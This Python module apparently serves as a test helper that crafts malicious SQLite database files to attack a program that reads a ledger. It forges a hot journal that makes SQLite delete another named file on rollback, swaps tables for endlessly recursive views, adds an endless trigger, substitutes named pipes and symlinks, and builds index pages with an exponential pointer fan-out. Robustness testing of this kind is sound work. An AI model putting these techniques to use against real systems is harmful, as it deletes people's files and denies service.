"""Corrupt a ledger so that a reader would delete files, never end or fill the memory."""

import os
import sqlite3
import struct
from contextlib import closing
from itertools import pairwise
from pathlib import Path

PAGE_SIZE = 4096
TREE_DEPTH, N_POINTERS = 15, 9  # one page per level, and 9^15 paths to the leaf
ENDLESS_QUERY = (
    "WITH RECURSIVE endless(n) AS (SELECT 0 UNION ALL SELECT n + 1 FROM endless WHERE n >= 0) "
    "SELECT {} FROM endless WHERE n < 0"
)
# First bytes of journals and super-journal records
JOURNAL_MAGIC = bytes.fromhex("d9d505f920a163d7")
TABLE_COLUMNS = {
    "run": "CAST(n AS TEXT) AS key, n AS value, n AS seal",
    "blocks": "n AS cell, n AS first, n AS units, n AS worker, n AS sums, n AS seal",
    "steps": "n AS name, n AS n, n AS arrays, n AS seal",
}


def write_super_journal(path, target):
    """Write a hot journal that names another file, which SQLite deletes after a rollback."""
    name = str(target).encode()
    header = JOURNAL_MAGIC + struct.pack(
        ">IIIII", 0, 0, path.stat().st_size // PAGE_SIZE, 512, PAGE_SIZE
    )
    checksum = sum(struct.unpack(f"{len(name)}b", name)) & 0xFFFFFFFF
    place = struct.pack(">I", 2**30 // PAGE_SIZE + 1)
    tail = place + name + struct.pack(">II", len(name), checksum) + JOURNAL_MAGIC
    Path(f"{path}-journal").write_bytes(header.ljust(512, b"\0") + tail)


def add_endless_view(path, table):
    """Replace a table by a view with endless rows."""
    with closing(sqlite3.connect(path)) as connection, connection:
        connection.execute(f"DROP TABLE {table}")
        connection.execute(f"CREATE VIEW {table} AS {ENDLESS_QUERY.format(TABLE_COLUMNS[table])}")


def add_endless_trigger(path):
    """Add a trigger that runs an endless query for every new row."""
    body = ENDLESS_QUERY.format("n")
    with closing(sqlite3.connect(path)) as connection, connection:
        connection.execute(f"CREATE TRIGGER t AFTER INSERT ON run BEGIN {body}; END")


def create_pipe(path, suffix):
    """Replace a file of an SQLite database by a named pipe."""
    Path(f"{path}{suffix}").unlink(missing_ok=True)
    os.mkfifo(f"{path}{suffix}")


def create_link(path, suffix, target):
    """Replace a file of an SQLite database by a symbolic link."""
    Path(f"{path}{suffix}").unlink(missing_ok=True)
    Path(f"{path}{suffix}").symlink_to(target)


def add_endless_pages(path):
    """Add a chain of index pages, each of which refers to the next page many times.

    Each page is valid, but a search never reaches the end.
    """
    with closing(sqlite3.connect(path)) as connection:
        query = "SELECT rootpage FROM sqlite_master WHERE name = 'sqlite_autoindex_blocks_1'"
        ((root,),) = connection.execute(query)
    content = bytearray(path.read_bytes())
    pages = len(content) // PAGE_SIZE
    leaf = content[(root - 1) * PAGE_SIZE : root * PAGE_SIZE]
    (first,) = struct.unpack(">H", leaf[8:10])
    cell = leaf[first : first + leaf[first] + 1]  # the length of an entry, and the entry
    numbers = [root, *range(pages + 1, pages + TREE_DEPTH + 1)]
    content += bytes(PAGE_SIZE * TREE_DEPTH)
    for number, child in pairwise(numbers):
        content[(number - 1) * PAGE_SIZE : number * PAGE_SIZE] = _make_inner_page(cell, child)
    content[(numbers[-1] - 1) * PAGE_SIZE :] = leaf
    content[28:32] = struct.pack(">I", len(content) // PAGE_SIZE)
    path.write_bytes(content)


def _make_inner_page(entry, child):
    """Return an inner index page whose pointers all lead to the same child page."""
    cell = struct.pack(">I", child) + entry
    starts = [PAGE_SIZE - (place + 1) * len(cell) for place in range(N_POINTERS)]
    header = struct.pack(">BHHHBI", 2, 0, N_POINTERS, starts[-1], 0, child)
    page = bytearray(header + struct.pack(f">{N_POINTERS}H", *starts)).ljust(PAGE_SIZE, b"\0")
    for start in starts:
        page[start : start + len(cell)] = cell
    return bytes(page)
